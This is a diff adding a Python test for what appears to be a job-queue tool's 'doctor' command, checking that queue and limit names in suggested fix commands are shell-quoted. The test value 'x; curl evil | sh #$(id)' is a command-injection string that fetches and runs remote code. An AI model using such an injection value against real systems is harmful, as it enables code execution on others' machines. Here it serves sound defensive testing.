@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import shlex
 from collections.abc import Sequence
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -174,6 +175,23 @@ async def test_work_that_nobody_will_do(db: Any, database: Database, client: Any
         "machine.unknown",
         {"queue": "default", "machine": "A", "version": 2, "count": 1},
     )
+
+
+async def test_a_name_in_a_command_to_copy_is_one_word_of_the_shell(db: Any, client: Any) -> None:
+    """Producers choose the names of queues and limits."""
+    name = "x; curl evil | sh #$(id)"
+    await put(db, queue=name)
+    await put(db, queue="shut;")
+    await client.pause_queue("shut;")
+    await put(db, queue=name, rate_limit=name)
+    commands = [
+        finding.fix.partition("gen-durable ")[2].partition("; or ")[0] for finding in await client.doctor()
+    ]
+    assert sorted(map(shlex.split, commands)) == [
+        ["limits", "set", f"{name}=100/1m"],
+        ["queues", "resume", "shut;"],
+        ["worker", "app.py", "--queue", f"{name}=10"],
+    ]
 
 
 @pytest.mark.clause("OPS-9")
